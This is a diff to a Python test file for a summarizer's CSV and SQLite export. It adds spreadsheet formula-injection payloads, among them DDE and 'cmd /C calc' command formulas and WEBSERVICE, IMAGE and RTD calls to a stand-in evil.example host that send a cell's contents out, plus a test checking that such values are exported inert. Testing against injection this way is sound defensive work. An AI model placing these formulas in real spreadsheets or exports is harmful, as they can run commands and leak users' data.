@@ -24,6 +24,7 @@ from summarizer.export.csv import cell, neutral
 from summarizer.export.rows import rows_of
 from summarizer.site.folder import BriefFolder, Entry
 from tests import briefs
+from tests.corpora import CORPORA, hands
 from tests.folders import copy, line, write_batch
 from tests.hostile import ATTACKS, MARKUP, texts
 
@@ -206,7 +207,11 @@ def test_numbers_and_times_beyond_what_the_formats_hold_are_left_empty(tmp_path)
 
 # --- formulas and hostile words -----------------------------------------------------------------------
 
-PAYLOADS = ("1+1", 'HYPERLINK("https://evil.example","x")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "IMPORTXML(A1,A2)")
+PAYLOADS = (
+    *("1+1", 'HYPERLINK("https://evil.example","x")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "IMPORTXML(A1,A2)"),
+    *('DDE("cmd";"/C calc";"x")', 'WEBSERVICE("https://evil.example/"&A1)', 'IMAGE("https://evil.example/x")'),
+    *("1+1+cmd|' /C calc'!A0", 'RTD("evil.example","","x")', '1";=1+1'),
+)
 LEADERS = (
     "=",
     "+",
@@ -258,7 +263,7 @@ def test_a_number_is_a_number_even_if_it_is_negative():
 
 
 HOSTILE = [
-    *FORMULAS,
+    *FORMULAS[::2],
     *ATTACKS,
     *MARKUP,
     'a"b',
@@ -307,6 +312,28 @@ def test_hostile_words_in_every_field_come_back_as_they_are_from_every_format(tm
     for rows in tables.values():
         assert not [value for row in rows for name, value in row.items() if ACTIVE.match(value)]
     database.close()
+
+
+@pytest.mark.parametrize("corpus", CORPORA)
+def test_every_family_of_attacks_in_every_field_comes_back_as_it_is(tmp_path, corpus):
+    dealt = (iter(hand) for hand in hands(corpus))
+    lines = [line(f"{n}", briefs.with_words(briefs.brief(), lambda _, d=d: next(d))) for n, d in enumerate(dealt)]
+    out = write_batch(tmp_path / "out", *lines)
+    tables, database = as_csv(out), as_sqlite(out)
+    expected = {table.name: [row for entry in BriefFolder(out) for row in rows_of(entry)[table]] for table in TABLES}
+    assert len(expected["briefs"]) == len(lines)
+    for table in TABLES:
+        written = [list(row.values()) for row in tables[table.name]]
+        assert not [value for row in written for value in row if ACTIVE.match(value)]
+        given = sorted([_plain(value) for value in row] for row in expected[table.name])
+        assert sorted([value.removeprefix("'") for value in row] for row in written) == given
+        stored = database.execute(f"SELECT * FROM {table.name}")
+        assert sorted([_plain(value) for value in row] for row in stored) == given
+    database.close()
+
+
+def _plain(value):
+    return value if isinstance(value, str) else cell(value).removeprefix("'")
 
 
 # --- files --------------------------------------------------------------------------------------------
